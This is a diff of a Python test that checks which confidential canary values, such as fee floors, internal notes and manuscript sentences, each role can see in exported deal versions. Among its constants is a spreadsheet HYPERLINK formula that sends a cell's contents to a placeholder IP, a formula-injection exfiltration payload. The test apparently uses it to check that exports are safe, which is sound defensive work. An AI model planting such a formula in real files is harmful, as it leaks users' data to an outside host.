@@ -22,13 +22,14 @@ FORM = "/deals/new/artist:akari/brand:koyomido"
 RANKING = "/matches/export?entity=brand:koyomido&for=artist"
 FLOOR, CEILING, NOTE = "7654321", "9876543", "CANARY-NOTE"
 FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"see")'
+SAID, DRAWN = "CHOSEN-SENTENCE", "DAWN-SKETCH"
 # Who takes out which version -> what must not stand in it, and what must
 HOLDS = {
-    ("planner", "internal"): ((), (FLOOR, CEILING, NOTE)),
-    ("analyst", "internal"): ((), (FLOOR, CEILING, NOTE)),
-    ("planner", "external"): ((FLOOR, CEILING, NOTE, "CANARY-FIRST", "Hana", "Toru"), ()),
-    ("brand", "internal"): ((FLOOR, NOTE), (CEILING,)),
-    ("manager", "internal"): ((CEILING, NOTE), (FLOOR,)),
+    ("planner", "internal"): ((), (FLOOR, CEILING, NOTE, SAID, DRAWN)),
+    ("analyst", "internal"): ((), (FLOOR, CEILING, NOTE, SAID, DRAWN)),
+    ("planner", "external"): ((FLOOR, CEILING, NOTE, "CANARY-FIRST", "Hana", "Toru"), (SAID, DRAWN)),
+    ("brand", "internal"): ((FLOOR, NOTE), (CEILING, SAID, DRAWN)),
+    ("manager", "internal"): ((CEILING, NOTE), (FLOOR, SAID, DRAWN)),
 }
 
 
@@ -44,6 +45,13 @@ class Room:
         sides = {"brand_side": "Koyomido†", "artist_side": "Nagi Office†"}
         first = terms | {"note": "CANARY-FIRST"}
         self.address = planner.send("/deals", FORM, **draft, **sides, **first).location
+        words = {
+            "sentences": [{"en": SAID}],
+            "sketches": [{"kind": "visual", "title": DRAWN, "text": "A quay at dawn"}],
+        }
+        actor = self.world.accounts.sessions.actor_of(planner.cookie)
+        deal = self.world.deals.get(actor, self.address.rpartition("/")[2])
+        self.world.manuscripts.keep(actor, deal["id"], deal["version"], words)
         self.act("planner", "change", internal_note=NOTE)
         self.act("planner", "send")
         self.act("manager", "change", fee_floor=FLOOR)
